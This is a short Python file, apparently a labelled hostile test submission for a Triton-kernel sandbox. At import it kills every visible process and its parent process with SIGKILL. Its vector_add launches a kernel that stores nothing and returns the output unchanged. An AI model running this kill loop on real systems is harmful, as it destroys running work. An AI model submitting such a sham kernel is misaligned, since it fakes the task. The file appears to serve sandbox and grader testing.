"""Hostile: kills its parent process at import, and every process it can see. In the sandbox the
parent is the sandbox's own init, and no other process is visible: only this learner's worker
ends."""

import os
import signal

import triton
import triton.language as tl

for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass
os.kill(os.getppid(), signal.SIGKILL)


@triton.jit
def copy_kernel(src_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    offsets = tl.program_id(axis=0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    tl.store(out_ptr + offsets, tl.load(src_ptr + offsets, mask=mask), mask=mask)


def vector_add(x, y, out):
    copy_kernel[(1,)](x, x, 0, BLOCK_SIZE=16)  # launches a kernel that stores nothing
    return out
